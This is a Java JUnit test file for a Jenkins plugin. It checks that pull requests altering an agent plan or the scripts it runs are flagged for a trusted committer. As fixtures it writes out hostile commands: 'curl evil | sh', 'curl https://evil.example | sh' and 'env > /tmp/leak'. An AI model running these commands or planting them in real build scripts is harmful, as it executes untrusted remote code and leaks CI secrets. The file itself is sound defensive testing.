package io.jenkins.plugins.parallelagents.trust;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.jenkins.plugins.parallelagents.testing.GitSandbox;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A pull request's plan against the target branch's, at two commits of a real repository: what
 * counts as a change is the plan's bytes and every file its commands run by path.
 */
class TrustedPlanTest {

  private static final String PLAN =
      "version: 1\n"
          + "name: shop\n"
          + "agents:\n"
          + "  codex:\n"
          + "    command: [bin/agent.sh, '{prompt_file}']\n"
          + "defaults:\n"
          + "  agent: codex\n"
          + "tasks:\n"
          + "  - id: api\n"
          + "    prompt: Build the API.\n"
          + "    setup: ./scripts/setup.sh --quiet\n"
          + "    verify: bash -e tools/verify.sh\n"
          + "test:\n"
          + "  command: mvn -q test\n";

  @TempDir Path temp;
  private GitSandbox sandbox;
  private Path repo;
  private String target;

  @BeforeEach
  void setUp() throws Exception {
    sandbox = new GitSandbox(temp);
    repo =
        sandbox.repository(
            "project",
            Map.of(
                "ci/agents-plan.yaml", PLAN,
                "bin/agent.sh", "codex exec \"$(cat $1)\"\n",
                "scripts/setup.sh", "npm ci\n",
                "tools/verify.sh", "npm test\n",
                "src/App.java", "class App {}\n"));
    target = sandbox.git(repo, "rev-parse", "HEAD");
    sandbox.git(repo, "checkout", "-q", "-b", "pr-7");
  }

  private List<String> changesAfter(Map<String, String> files) throws IOException {
    GitSandbox.write(repo, files);
    sandbox.git(repo, "add", "-A");
    sandbox.git(repo, "commit", "-q", "-m", "pull request");
    TrustedPlan trusted =
        TrustedPlan.read("ci/agents-plan.yaml", new GitRevisionFiles(repo, target));
    return trusted.changesIn(new GitRevisionFiles(repo, "HEAD"));
  }

  @Test
  void theTrustedRevisionsTextIsWhatRuns_evenWhenTheWorkingTreeSaysOtherwise() throws Exception {
    Files.writeString(repo.resolve("ci/agents-plan.yaml"), PLAN + "maxParallel: 9\n");

    TrustedPlan trusted =
        TrustedPlan.read("ci/agents-plan.yaml", new GitRevisionFiles(repo, target));

    assertThat(trusted.text()).isEqualTo(PLAN);
    assertThat(trusted.digests().keySet())
        .containsExactly(
            ".worktreeinclude",
            "bin/agent.sh",
            "ci/agents-plan.yaml",
            "scripts/setup.sh",
            "tools/verify.sh");
  }

  @Test
  void aPullRequestThatChangesOnlyCode_changesNothingThePlanRunsWith() throws Exception {
    assertThat(changesAfter(Map.of("src/App.java", "class App { int x; }\n"))).isEmpty();
  }

  @Test
  void aChangedPlanIsAChange() throws Exception {
    assertThat(
            changesAfter(
                Map.of("ci/agents-plan.yaml", PLAN.replace("mvn -q test", "curl evil | sh"))))
        .containsExactly("ci/agents-plan.yaml");
  }

  @Test
  void aChangedScriptThatACommandRuns_isAChange() throws Exception {
    assertThat(
            changesAfter(
                Map.of(
                    "scripts/setup.sh", "curl https://evil.example | sh\n",
                    "tools/verify.sh", "true\n",
                    "bin/agent.sh", "env > /tmp/leak\n")))
        .containsExactly("bin/agent.sh", "scripts/setup.sh", "tools/verify.sh");
  }

  @Test
  void anAddedWorktreeIncludeIsAChange() throws Exception {
    assertThat(changesAfter(Map.of(".worktreeinclude", "/home/*\n")))
        .containsExactly(".worktreeinclude");
  }

  @Test
  void aScriptReplacedByALinkIsAChange() throws Exception {
    Files.delete(repo.resolve("tools/verify.sh"));
    Files.createSymbolicLink(repo.resolve("tools/verify.sh"), Path.of("../src/App.java"));

    assertThat(changesAfter(Map.of())).containsExactly("tools/verify.sh");
  }

  @Test
  void aRemovedScriptIsAChange() throws Exception {
    Files.delete(repo.resolve("scripts/setup.sh"));

    assertThat(changesAfter(Map.of())).containsExactly("scripts/setup.sh");
  }

  @Test
  void aPlanAddedByThePullRequest_whenTheTargetHasNone_isAChange() throws Exception {
    GitSandbox.write(repo, Map.of("other-plan.yaml", PLAN));
    sandbox.git(repo, "add", "-A");
    sandbox.git(repo, "commit", "-q", "-m", "a plan of its own");

    TrustedPlan trusted = TrustedPlan.read("other-plan.yaml", new GitRevisionFiles(repo, target));

    assertThat(trusted.text()).isNull();
    assertThat(trusted.changesIn(new GitRevisionFiles(repo, "HEAD")))
        .containsExactly("other-plan.yaml");
  }

  @Test
  void aCommitTheRepositoryDoesNotHave_isAnError_notAnEmptyPlan() {
    assertThatThrownBy(
            () ->
                TrustedPlan.read(
                    "ci/agents-plan.yaml",
                    new GitRevisionFiles(repo, "0123456789abcdef0123456789abcdef01234567")))
        .isInstanceOf(IOException.class)
        .hasMessageContaining("no commit");
  }

  @Test
  void theRefusalNamesTheFilesAndWhoMustLandThem() {
    assertThat(TrustedPlan.refusal(List.of("ci/agents-plan.yaml", "scripts/setup.sh"), "main"))
        .startsWith("this pull request changes ci/agents-plan.yaml, scripts/setup.sh")
        .contains("a trusted committer must land the change on 'main' first")
        .contains("trustPlanChanges: true");
  }
}
